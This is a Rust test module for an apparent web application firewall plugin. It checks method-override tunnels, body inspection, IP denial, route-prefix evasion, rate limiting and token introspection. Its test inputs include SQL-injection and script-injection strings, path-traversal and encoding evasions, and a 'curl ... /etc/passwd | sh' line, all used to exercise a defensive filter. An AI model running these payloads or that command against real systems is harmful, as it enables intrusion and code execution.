        assert_eq!(run("POST", "/wp-json/wp/v2/posts/1043", wp), (0, vec![]));
        assert_eq!(run("POST", "/orders/7", &[("x-http-method", b"DELETE")]), (0, vec![]));
        // Denied: a method the route's policy refuses, one that selects another route, a
        // tunnel on GET, two headers that disagree, a value that is no method, one the WAF's
        // `allowed_methods` lacks.
        for (method, target, headers) in [
            ("POST", "/wp-json/wp/v2/posts/1043", &[("x-http-method-override", &b"DELETE"[..])][..]),
            ("POST", "/admin/users/3", &[("x-http-method-override", b"DELETE")]),
            ("GET", "/orders/7", &[("x-http-method-override", b"DELETE")]),
            ("POST", "/orders/7", &[("x-http-method-override", b"PUT"), ("x-http-method", b"DELETE")]),
            ("POST", "/orders/7", &[("x-http-method-override", b"put")]),
            ("POST", "/orders/7", &[("x-method-override", b"PROPFIND")]),
        ] {
            assert_eq!(run(method, target, headers), (403, vec![1015]), "{method} {target} {headers:?}");
        }
    }

    #[test]
    fn a_json_document_under_a_binary_type_is_inspected_and_a_file_is_released() {
        let p = policy(r#"{"policies": {"default": {"waf": {}}}}"#);
        let run = |ctype: &str, body: &[u8]| {
            let host = MemoryHost::at(1_000);
            let r = req("POST", "/login", &[("content-type", ctype.as_bytes()), ("content-length", b"1")], "192.0.2.1");
            let (ex, v) = evaluate(&p, &r, Some(body), &host, false);
            (status(&v), ex.waf_outcome.map(|o| o.total_score).unwrap_or(0))
        };
        let attack = br#"{"user": "admin' or '1'='1"}"#;
        for ctype in ["application/octet-stream", "image/png", "application/grpc", "application/json"] {
            let (st, score) = run(ctype, attack);
            assert_eq!(st, 403, "{ctype}");
            assert!(score >= 5, "{ctype}");
        }
        let mut padded = vec![b' '; 600];
        padded.extend_from_slice(br#"[{"q": "<script>alert(1)</script>"}]"#);
        assert_eq!(run("application/octet-stream", &padded).0, 403);
        // Files, images and archives stay uninspected, as binary bodies were before.
        for body in [
            &b"#!/bin/sh\ncurl http://x/../../etc/passwd | sh\n"[..],
            b"{\\rtf1\\ansi <script>alert(1)</script>}",
            b"[font]\nname=<script>alert(1)</script>\n",
            b"\x89PNG\r\n\x1a\n<script>alert(1)</script>",
        ] {
            assert_eq!(run("application/octet-stream", body), (0, 0), "{}", String::from_utf8_lossy(body));
        }
        // The held body is let go after its first bytes: a large upload needs no inspection budget.
        let big = vec![0u8; 4 << 20];
        assert_eq!(run("application/octet-stream", &big).0, 0);
    }

    #[test]
    fn allowed_request_continues_and_is_counted() {
        let p = policy("{}");
        let host = MemoryHost::at(1_000);
        let (_, v) = on_request_headers(&p, &req("GET", "/", &[], "192.0.2.1"), true, &host);
        assert_eq!(v, Verdict::Continue);
        assert_eq!(host.counter("palisade.requests.allowed"), 1);
        assert!(host.audits.borrow().is_empty(), "allowed requests are not logged by default");
        assert!(host.filter_state.borrow().is_empty(), "filter state is opt-in");
        let with_state = policy(r#"{"audit": {"filter_state": true}}"#);
        on_request_headers(&with_state, &req("GET", "/", &[], "192.0.2.1"), true, &host);
        assert!(host.filter_state.borrow().contains_key("palisade.audit"));
    }

    #[test]
    fn denied_ip_gets_403_problem_json_and_an_audit_record() {
        let p = policy(r#"{"ip": {"deny": ["192.0.2.0/24"]}}"#);
        let host = MemoryHost::at(1_000);
        let (_, v) = on_request_headers(&p, &req("GET", "/a?secret=1", &[], "192.0.2.1"), true, &host);
        let Verdict::Deny(resp) = v else { panic!("expected a denial") };
        assert_eq!(resp.status, 403);
        let body: serde_json::Value = serde_json::from_slice(&resp.body).unwrap();
        assert_eq!(body["code"], "ip_denied");
        assert_eq!(body["request_id"], "rid-1");
        let rec = &host.audit_records()[0];
        assert_eq!(rec["decision"], "deny");
        assert_eq!(rec["enforced"], true);
        assert_eq!(rec["reason"], "ip_denied");
        assert_eq!(rec["rule"], "ip.deny");
        assert_eq!(rec["path"], "/a?secret");
        assert_eq!(rec["client_ip"], "192.0.2.1");
        assert_eq!(host.counter("palisade.denied.ip_denied"), 1);
        assert_eq!(host.counter("palisade.requests.allowed"), 0);
    }

    #[test]
    fn monitor_mode_lets_a_would_be_denial_through_and_records_it() {
        let p = policy(r#"{"mode": "monitor", "ip": {"deny": ["192.0.2.0/24"]}}"#);
        let host = MemoryHost::at(1_000);
        let (_, v) = on_request_headers(&p, &req("GET", "/", &[], "192.0.2.1"), true, &host);
        assert_eq!(v, Verdict::Continue);
        let rec = &host.audit_records()[0];
        assert_eq!(rec["decision"], "deny");
        assert_eq!(rec["enforced"], false);
        assert_eq!(rec["mode"], "monitor");
        assert_eq!(host.counter("palisade.monitored.ip_denied"), 1);
        assert_eq!(host.counter("palisade.requests.allowed"), 1);
    }

    #[test]
    fn a_policy_can_monitor_while_the_rest_enforces() {
        let p = policy(
            r#"{"policies": {"new": {"mode": "monitor", "limits": {"methods": ["GET"]}}, "default": {"limits": {"methods": ["GET"]}}},
                "routes": [{"prefix": "/new", "policy": "new"}]}"#,
        );
        let host = MemoryHost::at(0);
        assert_eq!(status(&on_request_headers(&p, &req("POST", "/new/x", &[], "192.0.2.1"), true, &host).1), 0);
        assert_eq!(status(&on_request_headers(&p, &req("POST", "/old", &[], "192.0.2.1"), true, &host).1), 405);
    }

    #[test]
    fn route_prefix_cannot_be_dodged_with_dot_segments_or_encoding() {
        let p = policy(
            r#"{"policies": {"admin": {"ip": {"allow": ["10.0.0.0/8"]}}},
                "routes": [{"prefix": "/admin", "policy": "admin"}]}"#,
        );
        let host = MemoryHost::at(0);
        for target in ["/admin", "/public/../admin/x", "//admin", "/%61dmin", "/admin;x=1"] {
            let (_, v) = on_request_headers(&p, &req("GET", target, &[], "192.0.2.1"), true, &host);
            assert_eq!(status(&v), 403, "{target}");
        }
    }

    #[test]
    fn streaming_body_over_the_limit_is_denied_with_413() {
        let p = policy(r#"{"policies": {"default": {"limits": {"max_body_bytes": 10}}}}"#);
        let host = MemoryHost::at(0);
        let (mut ex, v) =
            on_request_headers(&p, &req("POST", "/", &[("transfer-encoding", b"chunked")], "192.0.2.1"), false, &host);
        assert_eq!(v, Verdict::Continue);
        assert_eq!(on_request_body(&p, &mut ex, 6, false, &host), Verdict::Continue);
        assert_eq!(status(&on_request_body(&p, &mut ex, 6, false, &host)), 413);
        // Later chunks of a denied request change nothing.
        assert_eq!(on_request_body(&p, &mut ex, 6, true, &host), Verdict::Continue);
        assert_eq!(host.audit_records().len(), 1);
    }

    #[test]
    fn tls_is_read_from_the_connection_or_a_trusted_forwarded_proto() {
        let p = policy(
            r#"{"client_ip": {"source": "x_forwarded_for", "trusted_proxies": ["10.0.0.0/8"]},
                          "policies": {"default": {"require_tls": true}}}"#,
        );
        let host = MemoryHost::at(0);
        let plain = req("GET", "/", &[], "10.0.0.1");
        assert_eq!(status(&on_request_headers(&p, &plain, true, &host).1), 403);
        let mut tls = plain.clone();
        tls.tls = true;
        assert_eq!(status(&on_request_headers(&p, &tls, true, &host).1), 0);
        let via_proxy =
            req("GET", "/", &[("x-forwarded-proto", b"https"), ("x-forwarded-for", b"203.0.113.5")], "10.0.0.1");
        assert_eq!(status(&on_request_headers(&p, &via_proxy, true, &host).1), 0);
        let spoofed = req("GET", "/", &[("x-forwarded-proto", b"https")], "198.51.100.7");
        assert_eq!(status(&on_request_headers(&p, &spoofed, true, &host).1), 403);
    }

    #[test]
    fn non_utf8_header_values_are_handled() {
        let p = policy(r#"{"client_ip": {"source": "x_forwarded_for", "trusted_hops": 1}}"#);
        let host = MemoryHost::at(0);
        let r = req("GET", "/%ff", &[("x-forwarded-for", b"\xff\xfe"), ("user-agent", b"\xc3\x28")], "192.0.2.1");
        let (ex, v) = on_request_headers(&p, &r, true, &host);
        assert_eq!(v, Verdict::Continue);
        assert_eq!(ex.client_ip, Some("192.0.2.1".parse().unwrap()));
    }

    #[test]
    fn allowed_requests_are_logged_when_configured_and_only_once() {
        let p = policy(r#"{"audit": {"log_allowed": true}}"#);
        let host = MemoryHost::at(0);
        let (mut ex, _) = on_request_headers(&p, &req("GET", "/", &[], "192.0.2.1"), true, &host);
        on_complete(&p, &mut ex, &host);
        assert_eq!(host.audit_records().len(), 1);
        assert_eq!(host.audit_records()[0]["decision"], "allow");
    }

    const LIMITED: &str = r#"{
        "rate_limiting": {"table": {"slots": 64}, "penalty_box": {"thresholds": {"rate_limited": 3}, "window": "1m", "cooldown": "30s", "slots": 16}},
        "policies": {"default": {"rate_limits": [{"name": "per_ip", "stage": "before_auth", "limit": 2, "period": "1m", "headers_on_allowed": true}]}}
    }"#;

    #[test]
    fn rate_limit_admits_the_limit_then_answers_429_with_retry_after_and_ratelimit_fields() {
        let p = policy(LIMITED);
        let host = MemoryHost::at(1_700_000_000_000);
        p.prime(&host);
        let r = req("GET", "/", &[], "192.0.2.1");
        let (ex1, v1) = on_request_headers(&p, &r, true, &host);
        assert_eq!(v1, Verdict::Continue);
        assert!(ex1.response_extra.iter().any(|(n, v)| n == "ratelimit-policy" && v == "\"per_ip\";q=2;w=60"));
        assert_eq!(status(&on_request_headers(&p, &r, true, &host).1), 0);
        let (_, v3) = on_request_headers(&p, &r, true, &host);
        let Verdict::Deny(resp) = v3 else { panic!("expected 429") };
        assert_eq!(resp.status, 429);
        let header = |n: &str| resp.headers.iter().find(|(k, _)| k == n).map(|(_, v)| v.clone());
        assert_eq!(header("retry-after"), Some("30".to_string()));
        assert!(header("ratelimit").unwrap().starts_with("\"per_ip\";r=0;t="));
        let body: serde_json::Value = serde_json::from_slice(&resp.body).unwrap();
        assert_eq!(body["type"], QUOTA_EXCEEDED_TYPE);
        assert_eq!(body["violated-policies"][0], "per_ip");
        assert_eq!(host.counter("palisade.ratelimit.default.per_ip.allowed"), 2);
        assert_eq!(host.counter("palisade.ratelimit.default.per_ip.limited"), 1);
        // Another client has its own budget.
        assert_eq!(status(&on_request_headers(&p, &req("GET", "/", &[], "192.0.2.2"), true, &host).1), 0);
    }

    #[test]
    fn repeated_rate_limit_hits_put_the_client_in_the_penalty_box_until_the_cooldown() {
        let p = policy(LIMITED);
        let host = MemoryHost::at(1_700_000_000_000);
        p.prime(&host);
        let r = req("GET", "/", &[], "192.0.2.1");
        let codes: Vec<u16> = (0..6).map(|_| status(&on_request_headers(&p, &r, true, &host).1)).collect();
        assert_eq!(codes, vec![0, 0, 429, 429, 429, 429]);
        let last = host.audit_records().last().cloned().unwrap();
        assert_eq!(last["reason"], "penalty_boxed");
        let boxing = host.audit_records().iter().find(|a| a.get("penalty").is_some()).cloned().unwrap();
        assert!(boxing["penalty"].as_str().unwrap().contains("3 rate_limited"), "{boxing}");
        assert_eq!(host.counter("palisade.penalty.boxed"), 1);
        // After the cooldown (and the rate-limit period), the client is served again.
        *host.now_ms.borrow_mut() += 61_000;
        assert_eq!(status(&on_request_headers(&p, &r, true, &host).1), 0);
    }

    #[test]
    fn monitor_mode_rate_limit_consumes_no_budget_and_boxes_nobody() {
        let p = policy(&LIMITED.replace("\"rate_limits\"", "\"mode\": \"monitor\", \"rate_limits\""));
        let host = MemoryHost::at(1_700_000_000_000);
        p.prime(&host);
        let r = req("GET", "/", &[], "192.0.2.1");
        for _ in 0..8 {
            assert_eq!(on_request_headers(&p, &r, true, &host).1, Verdict::Continue);
        }
        assert_eq!(host.counter("palisade.monitored.rate_limited"), 6);
        assert_eq!(host.counter("palisade.penalty.boxed"), 0);
    }

    const INTROSPECT: &str = r#"{
        "auth": {"introspection": {"cluster": "idp", "uri": "https://idp.example/introspect", "client_id": "p", "client_secret": "s"}},
        "policies": {"default": {"auth": {"require": "required", "scopes": {"all_of": ["read"]}}}}
    }"#;

    #[test]
    fn an_opaque_token_is_introspected_then_cached() {
        let p = policy(INTROSPECT);
        let host = MemoryHost::at(1_700_000_000_000);
        let r = req("GET", "/", &[("authorization", b"Bearer opaque-1")], "192.0.2.1");
        let (mut ex, v) = on_request_headers(&p, &r, true, &host);
        let Verdict::Call(call) = v else { panic!("expected a call, got {v:?}") };
        assert_eq!(call.cluster, "idp");
        assert!(String::from_utf8_lossy(&call.body).contains("token=opaque-1"));
        let v =
            on_call_response(&p, &mut ex, Some(200), br#"{"active": true, "sub": "svc-a", "scope": "read"}"#, &host);
        assert_eq!(v, Verdict::Continue);
        assert!(ex.request_changes.contains(&("x-consumer-id".to_string(), Some("svc-a".to_string()))));
        assert!(ex.request_changes.contains(&("authorization".to_string(), None)));
        // The same token again: answered from the cache, no call.
        let (_, v2) = on_request_headers(&p, &r, true, &host);
        assert_eq!(v2, Verdict::Continue);
    }

    #[test]
    fn inactive_tokens_get_401_and_endpoint_failures_503() {
        let p = policy(INTROSPECT);
        let host = MemoryHost::at(1_700_000_000_000);
        let r = req("GET", "/", &[("authorization", b"Bearer opaque-2")], "192.0.2.1");
        let (mut ex, _) = on_request_headers(&p, &r, true, &host);
        assert_eq!(status(&on_call_response(&p, &mut ex, Some(200), br#"{"active": false}"#, &host)), 401);
        let r3 = req("GET", "/", &[("authorization", b"Bearer opaque-3")], "192.0.2.1");
        let (mut ex3, _) = on_request_headers(&p, &r3, true, &host);
        let v = on_call_response(&p, &mut ex3, None, b"", &host);
        let Verdict::Deny(resp) = v else { panic!("expected 503") };
        assert_eq!(resp.status, 503);
        assert!(resp.headers.iter().any(|(n, v)| n == "retry-after" && v == "1"));
        // A token without the scope: 403.
        let r4 = req("GET", "/", &[("authorization", b"Bearer opaque-4")], "192.0.2.1");
        let (mut ex4, _) = on_request_headers(&p, &r4, true, &host);
        assert_eq!(
            status(&on_call_response(
                &p,
                &mut ex4,
                Some(200),
                br#"{"active": true, "sub": "u", "scope": "write"}"#,
                &host
            )),
            403
        );
    }
}
